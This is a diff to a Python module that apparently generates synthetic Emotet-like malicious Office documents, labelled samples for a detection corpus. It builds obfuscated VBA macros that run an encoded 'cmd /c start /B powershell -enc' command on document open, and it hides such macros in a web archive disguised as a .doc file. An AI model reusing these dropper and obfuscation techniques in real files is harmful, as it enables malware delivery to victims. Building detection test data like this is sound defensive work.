@@ -8,12 +8,12 @@ from random import Random
 from support.carriers import commands, word_macros
 from support.carriers.sample import EMOTET, Sample, zipped
 from support.carriers.word_macros import Macro
-from support.document_decoys import encoded
+from support.document_decoys import addresses, command, encoded, strewn
 from support.draws import letters
 from support.office.mso_writer import active_mime
-from support.office.ooxml_writer import core_properties, package, page, run
-from support.office.ooxml_writer import Rel
-from support.office.vba_writer import Project, compound_file, project_streams
+from support.office.ole_writer import compound_file
+from support.office.ooxml_writer import Rel, core_properties, package, page, run
+from support.office.vba_writer import Project, project_streams
 from support.office.word_writer import word_document
 from support.pdf_files import linked
 
@@ -24,7 +24,9 @@ _1601 = 116_444_736_000_000_000
 
 def file_name(draw: Random, extension: str) -> str:
     """As the mails of the campaigns called them (DOMAIN.md 2.1)."""
-    first = draw.choice(("Data", "list", "doc", "pack", "Mail", "message", "SCAN", "report", "form", "INVOICE", "INV", "PO", "請求書"))
+    first = draw.choice(
+        ("Data", "list", "doc", "pack", "Mail", "message", "SCAN", "report", "form", "INVOICE", "INV", "PO", "請求書")
+    )
     return f"{first}{draw.choice(('_', '-', ' '))}{draw.randint(10, 10**8)}.{extension}"
 
 
@@ -72,7 +74,7 @@ def combo(draw: Random) -> Sample:
 
 
 def cut_literals(draw: Random) -> Sample:
-    return _document(draw, word_macros.cut_literals(draw, commands.powershell(draw, commands.command(draw))))
+    return _document(draw, word_macros.cut_literals(draw, commands.powershell(draw, command(draw))))
 
 
 def page_text(draw: Random) -> Sample:
@@ -103,7 +105,7 @@ def _code_of_2021(draw: Random) -> Macro:
     text = encoded(commands.of_november_2021(draw))
     between = draw.choice(("bvn", "wegb", "qzx", "JJK"))
     whole = f"cmd /c start /B powershell -dec {text}".replace("-dec", draw.choice(("-e", "-enc")))
-    literals = [word_macros.strewn(draw, whole[at : at + 300], between) for at in range(0, len(whole), 300)]
+    literals = [strewn(draw, whole[at : at + 300], between) for at in range(0, len(whole), 300)]
     added = "".join(f'x = x & "{one}"\n' for one in literals)
     main = letters(draw, 5, 8)
     code = f'Sub {main}()\n{added}Shell Replace(x, "{between}", ""), 0\nEnd Sub\n'
@@ -128,7 +130,12 @@ def workbook_of_2021(draw: Random) -> Sample:
     from support.office.vba_writer import Source
 
     macro = _code_of_2021(draw)
-    own = Source("ThisWorkbook", macro.modules[0].text.replace("AutoOpen", "Workbook_Open"), "document", base="0{00020819-0000-0000-C000-000000000046}")
+    own = Source(
+        "ThisWorkbook",
+        macro.modules[0].text.replace("AutoOpen", "Workbook_Open"),
+        "document",
+        base="0{00020819-0000-0000-C000-000000000046}",
+    )
     project = compound_file(project_streams(Project((own, *macro.modules[1:]))))
     book = b'<workbook xmlns="http://schemas.openxmlformats.org/spreadsheetml/2006/main"><sheets/></workbook>'
     return Sample(file_name(draw, "xlsm"), package("xlsm", book, vba=project), EMOTET, _KINDS)
@@ -150,9 +157,32 @@ def word_xml(draw: Random) -> Sample:
     return Sample(file_name(draw, "doc"), text.encode(), EMOTET, _KINDS)
 
 
+def web_archive(draw: Random) -> Sample:
+    """The same as a web archive under ``.doc``."""
+    from base64 import encodebytes
+
+    macro = word_macros.wmi(draw, word_macros.command_of_2019(draw), "form")
+    storage = {f"Macros/{path}": data for path, data in project_streams(Project(macro.modules, forms=macro.forms)).items()}
+    packed = encodebytes(active_mime(compound_file(storage))).decode().replace("\n", "\r\n")
+    head = 'MIME-Version: 1.0\r\nContent-Type: multipart/related; boundary="----=_Next"\r\n\r\n------=_Next\r\n'
+    shown = "Content-Location: file:///C:/x/a.htm\r\nContent-Type: text/html\r\n\r\n"
+    shown += '<html xmlns:w="urn:schemas-microsoft-com:office:word">x</html>\r\n'
+    kept = "Content-Location: file:///C:/x/editdata.mso\r\nContent-Transfer-Encoding: base64\r\n"
+    kept += "Content-Type: application/x-mso\r\n\r\n"
+    data = f"{head}{shown}------=_Next\r\n{kept}{packed}\r\n------=_Next--\r\n"
+    return Sample(file_name(draw, "doc"), data.encode(), EMOTET, _KINDS)
+
+
+def in_package(draw: Random) -> Sample:
+    """The macro of 2019 as ``.docm``."""
+    return Sample(
+        file_name(draw, "docm"), docm(draw, word_macros.wmi(draw, word_macros.command_of_2019(draw), "form")), EMOTET, _KINDS
+    )
+
+
 def linking_pdf(draw: Random) -> Sample:
     """A PDF that leads to the document. It cannot be exposed by itself: half of the web lies in such folders."""
-    url = commands.addresses(draw, 1)[0]
+    url = addresses(draw, 1)[0]
     return Sample(file_name(draw, "pdf"), linked([url]), None)
 
 
